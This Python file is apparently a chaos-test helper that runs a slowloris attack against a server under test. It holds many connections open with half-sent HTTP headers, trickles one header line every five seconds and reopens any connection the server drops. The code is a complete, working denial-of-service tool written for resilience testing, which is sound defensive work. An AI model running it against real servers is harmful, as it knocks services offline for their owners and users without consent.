"""A slowloris, run as its own process by test_slowloris.py (client descriptors are per process).

    python tests/chaos/slowloris.py <host> <port> <connections> <seconds> <source address>

Keeps `connections` connections open against the server for `seconds`: each sends half a
request's headers, then one more header line every TRICKLE_SECONDS, and never the blank line
that ends them. A connection the server closes is opened again at the next trickle, as
slowloris tools do. Prints one JSON line: how many connections were opened, and, per way the
server ended them (the status it answered first, else `reset` or `closed`), how many and how
long after their connect at most.

Each connection is a bare asyncio protocol with no task of its own: tens of thousands of them
cost little CPU, which the server under test needs on a two-core machine.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import sys
from collections import defaultdict

TRICKLE_SECONDS = 5.0
#: Connects in flight at once (a burst of thousands of SYNs would only overflow backlogs).
CONNECTS_IN_FLIGHT = 256
HALF_REQUEST = b"GET /healthz HTTP/1.1\r\nHost: gateway\r\nUser-Agent: slowloris\r\n"


class Attack:
    def __init__(self, host: str, port: int, source: str, connections: int) -> None:
        self.address = (host, port)
        self.source = source
        self.connections = connections
        self.loop = asyncio.get_running_loop()
        self.open: set[SlowClient] = set()
        self.opened = 0
        self.connect_errors = 0
        self.ended: dict[str, list[float]] = defaultdict(list)

    async def top_up(self) -> None:
        """Open connections until `connections` are open (or connecting)."""
        gate = asyncio.Semaphore(CONNECTS_IN_FLIGHT)

        async def one() -> None:
            async with gate:
                started = self.loop.time()
                try:
                    await asyncio.wait_for(
                        self.loop.create_connection(
                            lambda: SlowClient(self, started),
                            *self.address,
                            local_addr=(self.source, 0),
                        ),
                        TRICKLE_SECONDS,
                    )
                except (OSError, TimeoutError):
                    self.connect_errors += 1

        await asyncio.gather(*(one() for _ in range(self.connections - len(self.open))))

    async def run(self, seconds: float) -> dict[str, object]:
        deadline = self.loop.time() + seconds
        while self.loop.time() < deadline:
            await self.top_up()
            await asyncio.sleep(max(0.0, min(TRICKLE_SECONDS, deadline - self.loop.time())))
            for client in self.open:
                client.transport.write(b"X-Trickle: 1\r\n")
        held = list(self.open)
        self.open.clear()  # ended by the attack, not by the server
        for client in held:
            client.transport.abort()
        return {
            "opened": self.opened,
            "connect_errors": self.connect_errors,
            "held_to_the_end": len(held),
            "ended": {
                how: {"count": len(ds), "max_s": max(ds), "min_s": min(ds)}
                for how, ds in self.ended.items()
            },
        }


class SlowClient(asyncio.Protocol):
    def __init__(self, attack: Attack, started: float) -> None:
        self.attack = attack
        self.started = started
        self.status = ""
        self.transport: asyncio.Transport

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        self.attack.opened += 1
        self.attack.open.add(self)
        transport.write(HALF_REQUEST)

    def data_received(self, data: bytes) -> None:
        if not self.status and data.startswith(b"HTTP/1.1 "):
            self.status = data[9:12].decode()

    def connection_lost(self, exc: Exception | None) -> None:
        if self not in self.attack.open:
            return  # aborted by the attack itself at the end
        self.attack.open.discard(self)
        how = self.status or ("reset" if exc else "closed")
        self.attack.ended[how].append(self.attack.loop.time() - self.started)


async def attack(host: str, port: int, connections: int, seconds: float, source: str) -> object:
    return await Attack(host, port, source, connections).run(seconds)


def main() -> None:
    host, port, connections, seconds, source = sys.argv[1:6]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # An attacker runs on machines of its own; here it shares two cores with the server, so it
    # yields the CPU to it rather than turn the test into a fight for the CPU.
    os.nice(10)
    report = asyncio.run(attack(host, int(port), int(connections), float(seconds), source))
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
